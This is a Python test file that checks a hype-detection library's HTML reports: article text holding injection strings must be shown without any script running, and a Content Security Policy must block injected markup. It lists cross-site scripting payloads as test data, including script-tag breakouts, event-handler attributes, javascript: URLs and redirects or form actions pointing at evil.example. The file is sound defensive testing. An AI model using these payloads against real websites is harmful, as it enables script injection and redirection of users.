"""An article that attacks its reader is shown and does nothing.

A marker that any of its scripts would set is looked for; dialogs, requests and complaints of the
console are looked for at the end of every test, in `show`.
"""

import pytest

import hypecheck
from hypecheck.types import Claim, Event, Evidence, HypeSpan, Release, Report

RUN = "window.ran = true"
ATTACKS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onclick='{RUN}' x='",
    f"<img src=x onerror='{RUN}'>",
    f"<svg/onload={RUN.replace(' ', '')}>",
    f"<details open ontoggle='{RUN}'>",
    "<iframe src='javascript:parent.ran=true'></iframe>",
    "<base href='https://evil.example/'><link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<form action='https://evil.example/'><button>Send</button></form>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;",
    "{{constructor.constructor('window.ran=true')()}} ${window.ran=true} `",
    "\u202e\u2066evil\u2069 \x00 \x1b[31m \ufffe",
]
ALL = " ".join(ATTACKS)


def harmless(page):
    return page.evaluate("window.ran === undefined")


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_attack_in_an_article_that_is_checked_for_real(show, attack):
    text = f"It is a {attack} game-changer, a {attack}revolution.\n{attack}\nfirst since GPT-2 {attack}"
    page = show(hypecheck.check(text, as_of="2025-04-03", title=attack).to_html())
    for mark in page.locator("a.hit").all():
        mark.hover()
        mark.click()
    assert harmless(page)
    expected = page.locator("article.text").evaluate("e => e.textContent")
    assert "game-changer" in expected
    assert expected.count("<") == text.count("<")


def test_attack_in_every_field_of_a_report(show):
    release = Release(
        "x", ALL, organization=ALL, date="2020", licence=ALL,
        events=(Event("weights", "2020", ("javascript:window.ran=true",)),),
    )  # fmt: skip
    evidence = (Evidence(release, "counterexample", "weights", "2020", ALL),)
    claim = Claim(
        ALL, 0, 9, "first", verdict="REFUTED", reason=ALL, restatement=ALL, evidence=evidence,
        stretch=ALL, alternatives=(ALL,), speaker=ALL, anchor_name=ALL, anchor_date="2019",
    )  # fmt: skip
    span = HypeSpan(0, 9, ALL, ALL, entry=ALL, speaker=ALL, claim=claim)
    report = Report(
        ALL, 0.5, (span,), (claim,), title=ALL, as_of="2021-01-01", snapshot=ALL, version=ALL
    )
    page = show(report.to_html())
    page.locator("a.hit").first.click()
    assert page.locator(".card.open").is_visible()
    assert page.locator("a[href^='javascript']").count() == 0
    page.locator(".card.open .copy").click()
    assert harmless(page)
    fragment = show(f"<!doctype html><title>n</title>{report._repr_html_()}")
    for summary in fragment.locator("summary").all():
        if summary.is_visible():
            summary.click()
    assert harmless(fragment)


def test_policy_would_stop_a_script_that_came_in(chromium, tmp_path, report):
    """The second wall: a page into which markup had got all the same."""
    evil = "<p onclick='window.ran=true'>x</p><script>window.ran = true</script>"
    html = report.to_html().replace('<main id="article"', f'{evil}<main id="article"')
    path = tmp_path / "broken.html"
    path.write_text(html, encoding="utf-8")
    page = chromium.new_page()
    said = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(path.as_uri())
    page.get_by_text("x", exact=True).click()
    assert page.evaluate("window.ran === undefined")
    assert any("Content Security Policy" in line for line in said)
    assert page.locator("html.js").count() == 1, "the page's own script runs"
    page.close()


def test_bidi_controls_can_be_seen_and_do_not_turn_the_line_around(show):
    page = show(hypecheck.check("A game-changer \u202egnihtemos\u202c here.").to_html())
    words = page.locator("article.text").inner_text()
    assert "[U+202E]gnihtemos[U+202C]" in words


@pytest.mark.slow
def test_five_megabytes_are_shown_and_can_be_used(show):
    line = f"It is a game-changer, {ATTACKS[1]} they said.\n"
    text = line * (5_000_000 // len(line))
    step, at = len(line), line.index("game-changer")
    spans = tuple(
        HypeSpan(start + at, start + at + 12, "game-changer", "transformation", "attributed")
        for start in range(0, len(text), step)
    )
    page = show(Report(text, 0.5, spans).to_html())
    assert page.locator("article.text").evaluate("e => e.textContent.length") == len(text)
    page.locator("a.hit").nth(1).click()
    assert page.locator(".card.open h3").inner_text() == "“game-changer”"
    assert harmless(page)
